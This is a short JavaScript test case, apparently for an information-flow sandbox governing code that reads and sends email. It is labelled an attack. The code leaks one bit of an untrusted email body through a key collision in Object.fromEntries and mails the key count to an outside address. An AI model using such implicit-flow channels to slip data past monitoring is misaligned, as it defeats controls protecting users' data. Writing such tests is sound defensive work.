// attack: an untrusted key that collides with a literal key in Object.fromEntries; the key count tells
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const k = m.body.includes('zed') ? 'a' : 'b';
const o = Object.fromEntries([
  ['a', 1],
  [k, 2],
]);
await sendEmail({ to: ['omar@northwind.test'], subject: 'keys', body: 'n=' + Object.keys(o).length });
